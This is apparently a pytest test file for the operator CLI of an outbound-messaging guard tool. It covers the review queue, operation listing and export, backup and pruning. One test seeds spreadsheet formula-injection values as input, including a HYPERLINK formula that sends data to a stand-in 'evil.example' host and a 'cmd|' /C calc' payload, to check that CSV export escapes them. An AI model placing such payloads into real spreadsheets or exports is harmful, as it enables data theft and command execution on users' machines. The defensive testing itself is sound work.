"""The operator's commands, run in process as typed: the review queue, ops list/show/export, backup, prune."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

import anyio
import anyio.to_thread
import pytest
from structlog.testing import capture_logs

from hail_guard import keys, same_send
from hail_guard.cli import main, operations
from hail_guard.ledger import open_ledger
from hail_guard.models import Intent, Outcome, State
from hail_guard.profiles import hail
from tests.conftest import Harness, data, email, open_harness, text

KEY = "spring:lead9:email:intro"
REVIEW_WHY = "still unclear after 5 reconcile attempts"


def consented(lead: str, to: str) -> dict[str, Any]:
    return {
        "to": [to],
        "subject": "Hi",
        "body_text": f"Hello {lead}",
        "recipient_consent": True,
        "metadata": {"campaign_id": "spring", "lead_id": lead, "message_id": "intro"},
    }


@pytest.fixture
def ledger_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Built-in sandbox upstream (its outbox in tmp_path), a ledger in tmp_path, no delivery polling."""
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    path = tmp_path / "hail-guard.toml"
    path.write_text(
        f'[ledger]\nurl = "{url}"\n[upstream]\nsandbox_outbox = "{tmp_path / "outbox.jsonl"}"\n'
        '[delivery]\npoll = false\n[log]\nlevel = "warning"\n'
    )
    monkeypatch.setenv("HAIL_GUARD_CONFIG", str(path))
    return url


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def sent_batch(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Three emails planned and sent through the CLI; returns the batch id."""
    batch = tmp_path / "batch.jsonl"
    leads = [("lead1", "ada@example.com"), ("lead2", "bob@example.com"), ("lead3", "Ada@Example.com ")]
    batch.write_text(
        "".join(json.dumps({"tool": "send_email", "arguments": consented(*lead)}) + "\n" for lead in leads)
    )
    code, out, _ = run(capsys, "batch", "plan", str(batch))
    assert code == 0
    batch_id: str = json.loads(out)["batch_id"]
    assert run(capsys, "batch", "run", batch_id)[0] == 0
    return batch_id


def in_review(url: str, key: str = KEY) -> str:
    """An email whose outcome stayed unclear, as reconcile leaves it; its operation id."""
    arguments = {**consented("lead9", "lead9@example.com"), "idempotency_key": key}
    text = keys.canonical_json(arguments)
    intent = Intent(
        idempotency_key=key,
        tool="send_email",
        channel="email",
        recipients=("lead9@example.com",),
        request=text,
        request_fingerprint=keys.fingerprint(text),
        content_fingerprint=same_send.content_fingerprint(hail().spec("send_email"), arguments),
        campaign_id="spring",
    )
    unclear = Outcome(state=State.NEEDS_REVIEW, reason=REVIEW_WHY, review_reason=REVIEW_WHY)

    async def seed() -> str:
        async with open_ledger(url) as ledger:
            operation = (await ledger.begin_send(intent, owner="w1", lease_seconds=60)).operation
            await ledger.record_outcome(operation.id, owner="w1", outcome=unclear, actor="w1")
            return operation.id

    return anyio.run(seed)


def shown(capsys: pytest.CaptureFixture[str], id_or_key: str) -> dict[str, Any]:
    code, out, _ = run(capsys, "ops", "show", id_or_key, "--json")
    assert code == 0
    view: dict[str, Any] = json.loads(out)
    return view


class Terminal(io.StringIO):
    """A terminal on stdin that types `answer`."""

    def isatty(self) -> bool:
        return True


def test_ops_list_filters_by_batch_recipient_and_time(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    batch_id = sent_batch(tmp_path, capsys)
    in_review(ledger_url)

    def keys_of(*argv: str) -> list[str]:
        code, out, _ = run(capsys, "ops", "list", "--json", *argv)
        assert code == 0
        return [json.loads(line)["idempotency_key"] for line in out.splitlines()]

    assert keys_of("--batch", batch_id) == [
        "spring:lead3:email:intro",
        "spring:lead2:email:intro",
        "spring:lead1:email:intro",
    ]
    assert keys_of("--recipient", "ADA@example.com") == ["spring:lead3:email:intro", "spring:lead1:email:intro"]
    assert len(keys_of("--since", "7d")) == 4
    assert keys_of("--since", "2999-01-01") == []
    assert keys_of("--state", "needs_review", "--campaign", "spring") == [KEY]
    code, out, _ = run(capsys, "ops", "list", "--recipient", "bob@example.com")
    assert (code, "1 operation(s)" in out) == (0, True)
    for since in ("last tuesday", "99999999d"):
        with pytest.raises(SystemExit) as usage:
            main(["ops", "list", "--since", since])
        assert usage.value.code == 2
    assert "reaches back before the year 1; give a smaller age" in capsys.readouterr().err


FORMULA_KEY = '=HYPERLINK("http://evil.example/?x="&A1)'


def formula_send(url: str) -> None:
    """A send whose key, metadata and recipient each begin like a spreadsheet formula."""
    arguments = {"to": "+15550100", "body": "Hi", "idempotency_key": FORMULA_KEY}
    text = keys.canonical_json(arguments)
    intent = Intent(
        idempotency_key=FORMULA_KEY,
        tool="send_sms",
        channel="sms",
        recipients=("+15550100",),
        request=text,
        request_fingerprint=keys.fingerprint(text),
        content_fingerprint=keys.fingerprint(text),
        campaign_id="@SUM(1+1)",
        lead_id="-2+3",
        message_id="\tcmd|' /C calc'!A0",
    )

    async def seed() -> None:
        async with open_ledger(url) as ledger:
            await ledger.begin_send(intent, owner="w1", lease_seconds=60)

    anyio.run(seed)


def test_ops_export_as_csv_shows_formula_like_cells_as_text(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula_send(ledger_url)
    code, _, _ = run(capsys, "ops", "export", "--format", "csv", "--output", str(tmp_path / "ops.csv"))
    [row] = list(csv.DictReader((tmp_path / "ops.csv").read_text().splitlines()))
    assert code == 0
    assert row["idempotency_key"] == "'" + FORMULA_KEY
    assert (row["campaign_id"], row["lead_id"]) == ("'@SUM(1+1)", "'-2+3")
    assert row["message_id"] == "'\tcmd|' /C calc'!A0"
    assert row["recipients"] == "'+15550100"
    assert row["state"] == "sending"  # a cell that does not begin like a formula is as stored


def test_ops_export_pages_through_every_operation_as_csv_or_json_lines(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    sent_batch(tmp_path, capsys)
    in_review(ledger_url)
    monkeypatch.setattr(operations, "EXPORT_PAGE", 2)
    code, out, _ = run(capsys, "ops", "export", "--format", "csv", "--output", str(tmp_path / "ops.csv"))
    assert (code, out.strip()) == (0, f"exported 4 operation(s) to {tmp_path / 'ops.csv'}")
    rows = list(csv.DictReader((tmp_path / "ops.csv").read_text().splitlines()))
    assert [row["state"] for row in rows] == ["needs_review", "accepted", "accepted", "accepted"]
    assert rows[0]["review_reason"] == REVIEW_WHY
    assert rows[1]["recipients"] == "ada@example.com"  # stored in the one normal form
    assert (tmp_path / "ops.csv").stat().st_mode & 0o777 == 0o600

    code, out, _ = run(capsys, "ops", "export", "--state", "accepted")
    exported = [json.loads(line) for line in out.splitlines()]
    assert len(exported) == 3
    assert {item["state"] for item in exported} == {"accepted"}
    assert all(json.loads(item["request"])["idempotency_key"] == item["idempotency_key"] for item in exported)
    code, _, err = run(capsys, "ops", "export", "--output", str(tmp_path / "ops.csv"))
    assert code == 1
    assert "must be a new file" in err


def test_a_backup_opens_and_holds_every_operation(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sent_batch(tmp_path, capsys)
    in_review(ledger_url)
    copy = tmp_path / "backups" / "ledger-copy.db"
    code, out, _ = run(capsys, "backup", str(copy))
    assert (code, out.strip()) == (0, f"backed up 4 operation(s) to {copy}")

    async def every(url: str) -> list[tuple[str, str, State, int]]:
        async with open_ledger(url) as ledger:
            operations = await ledger.list_operations(limit=100)
            return [(op.id, op.request, op.state, len(await ledger.events(op.id))) for op in operations]

    assert anyio.run(every, f"sqlite:///{copy}") == anyio.run(every, ledger_url)
    assert copy.stat().st_mode & 0o777 == 0o600
    assert not (tmp_path / "backups" / "ledger-copy.db-wal").exists()
    code, _, err = run(capsys, "backup", str(copy))
    assert code == 1
    assert "already exists" in err


async def test_a_postgresql_ledger_is_backed_up_with_pg_dump(
    postgres_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HAIL_GUARD_LEDGER_URL", postgres_url)
    code = await anyio.to_thread.run_sync(main, ["backup", str(tmp_path / "copy.db")])
    assert code == 1
    assert "pg_dump" in capsys.readouterr().err
    assert not (tmp_path / "copy.db").exists()


def test_prune_needs_an_age_and_never_removes_unresolved_or_young_operations(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    sent_batch(tmp_path, capsys)
    review_id = in_review(ledger_url)
    with pytest.raises(SystemExit) as usage:
        main(["prune"])
    assert usage.value.code == 2
    code, _, err = run(capsys, "prune", "--older-than", "0.5")
    assert code == 1
    assert "key retention (24 h)" in err
    code, out, _ = run(capsys, "prune", "--older-than", "1")
    assert (code, out.startswith("pruned 0 resolved operation(s)")) == (0, True)

    monkeypatch.setenv("HAIL_GUARD_UPSTREAM_KEY_RETENTION_HOURS", "1e-9")  # a few microseconds
    code, out, _ = run(capsys, "prune", "--older-than", "1e-9")
    assert (code, out.startswith("pruned 3 resolved operation(s)")) == (0, True)
    code, out, _ = run(capsys, "ops", "list", "--json")
    assert [json.loads(line)["operation_id"] for line in out.splitlines()] == [review_id]


def test_review_resolve_is_audited_and_refused_outside_review(
    ledger_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    review_id = in_review(ledger_url)
    code, out, _ = run(capsys, "review", "list", "--json")
    [waiting] = [json.loads(line) for line in out.splitlines()]
    assert (waiting["operation_id"], waiting["review_reason"]) == (review_id, REVIEW_WHY)

    argv = ["review", "resolve", KEY, "--as", "accepted", "--provider-id", "e-77", "--by", "bob"]
    code, out, _ = run(capsys, *argv, "--reason", "seen in Hail's console")
    assert (code, out.strip()) == (0, f"{review_id} resolved as accepted by bob")
    view = shown(capsys, review_id)
    assert (view["state"], view["provider_id"]) == ("accepted", "e-77")
    decision = view["history"][-1]
    assert (decision["from_state"], decision["to_state"], decision["actor"]) == ("needs_review", "accepted", "bob")
    assert decision["reason"] == "review: resolved as accepted (provider id e-77): seen in Hail's console"

    code, _, err = run(capsys, "review", "resolve", review_id, "--as", "failed", "--reason", "changed my mind")
    assert code == 1
    assert "is accepted, not in review" in err
    assert len(shown(capsys, review_id)["history"]) == len(view["history"])
    code, _, err = run(capsys, "review", "resolve", review_id, "--as", "failed", "--reason", "  ")
    assert code == 1
    with pytest.raises(SystemExit):
        main(["review", "resolve", review_id, "--as", "ready", "--reason", "x"])


def test_review_resend_asks_first_then_sends_a_new_linked_operation(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    review_id = in_review(ledger_url)
    resend = ["review", "resend", review_id, "--reason", "Hail has no record of it", "--by", "alice"]
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    code, _, err = run(capsys, *resend)
    assert (code, "asks for confirmation" in err) == (1, True)
    monkeypatch.setattr(sys, "stdin", Terminal("no\n"))
    code, _, err = run(capsys, *resend)
    assert (code, "nothing was resent" in err, f"{KEY}:resend:1" in err) == (1, True, True)
    assert shown(capsys, review_id)["state"] == "needs_review"
    assert not (tmp_path / "outbox.jsonl").exists()

    monkeypatch.setattr(sys, "stdin", Terminal("yes\n"))
    code, out, _ = run(capsys, *resend)
    assert code == 0
    new = shown(capsys, f"{KEY}:resend:1")
    assert out.strip() == f"{review_id} resent as {new['operation_id']} (key {KEY}:resend:1): accepted"
    [sent] = [json.loads(line) for line in (tmp_path / "outbox.jsonl").read_text().splitlines()]
    assert (sent["idempotency_key"], sent["request"]["body_text"]) == (f"{KEY}:resend:1", "Hello lead9")
    old = shown(capsys, review_id)
    assert (old["state"], old["resent_as"], new["resend_of"]) == ("cancelled", new["operation_id"], review_id)
    assert (old["history"][-1]["actor"], new["history"][0]["actor"]) == ("alice", "alice")
    assert "Hail has no record of it" in old["history"][-1]["reason"]
    assert "superseded" in old["next_step"]
    assert [e["to_state"] for e in new["history"]] == ["ready", "sending", "accepted"]
    code, out, _ = run(capsys, "review", "list", "--json")
    assert (code, out) == (0, "")
    code, _, err = run(capsys, *resend, "--yes")
    assert (code, "is cancelled, not in review" in err) == (1, True)


async def conflicted(harness: Harness) -> str:
    """A send whose key Hail holds for another message: needs_review on the first attempt. (Its subject differs:
    a message to the same recipient with the same subject since would be taken for this one, and not resent.)"""
    other = {**email(subject="An older draft", body_text="An older draft"), "idempotency_key": "c1:l1:email:intro"}
    await harness.proxy.upstream.call_tool("send_email", other)
    view = data(await harness.call("send_email", email()))["hail_guard"]
    assert view["state"] == "needs_review"
    operation_id: str = view["operation_id"]
    return operation_id


async def test_the_review_queue_is_an_agent_tool_only_when_the_config_exposes_it(tmp_path: Path) -> None:
    async with open_harness(tmp_path) as harness:
        operation_id = await conflicted(harness)
        async with harness.client() as agent:
            names = {tool.name for tool in (await agent.list_tools()).tools}
            refused = await agent.call_tool("review_resend", {"operation_id": operation_id, "reason": "x"})
        assert not names & {"review_list", "review_resolve", "review_resend"}
        assert refused.is_error
        assert "unknown tool" in data(refused)["error"]

        harness.proxy.expose_review = True
        async with harness.client() as agent:
            names = {tool.name for tool in (await agent.list_tools()).tools}
            listed = data(await agent.call_tool("review_list", {}))
            resent = data(await agent.call_tool("review_resend", {"operation_id": operation_id, "reason": "redo"}))
        assert {"review_list", "review_resolve", "review_resend"} <= names
        assert [op["operation_id"] for op in listed["operations"]] == [operation_id]
        assert (resent["state"], resent["resend_of"]) == ("accepted", operation_id)
        [last] = (await harness.ledger.events(operation_id))[-1:]
        assert (last.actor, last.to_state) == ("agent", State.CANCELLED)


LLM_KEY = "sk-live-0123456789-SECRET"


async def test_a_calls_llm_api_key_is_stored_for_replays_but_shown_and_logged_nowhere(
    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    call: dict[str, Any] = {
        "to": "+14155550100",
        "llm": {"base_url": "https://llm.example/v1", "api_key": LLM_KEY, "model": "m1"},
        "recipient_consent": True,
    }
    with capture_logs() as logs:
        async with open_harness(tmp_path, ledger_url=ledger_url) as harness:
            placed = data(await harness.call("place_call", call))["hail_guard"]
            viewed = await harness.call("get_operation", {"operation_id": placed["operation_id"]})
            stored = await harness.ledger.get(placed["operation_id"])
        show = await anyio.to_thread.run_sync(main, ["ops", "show", placed["operation_id"], "--json"])
        export = await anyio.to_thread.run_sync(main, ["ops", "export"])
    out, err = capsys.readouterr()
    assert (placed["state"], show, export) == ("accepted", 0, 0)
    assert stored.arguments()["llm"]["api_key"] == LLM_KEY  # in clear in the ledger: a replay must send it
    assert LLM_KEY not in text(viewed) + out + err + repr(logs)
    assert '"api_key": "[redacted]"' in out
    assert json.loads(out.split("\n}\n")[0] + "}")["request"]["llm"] == {**call["llm"], "api_key": "[redacted]"}
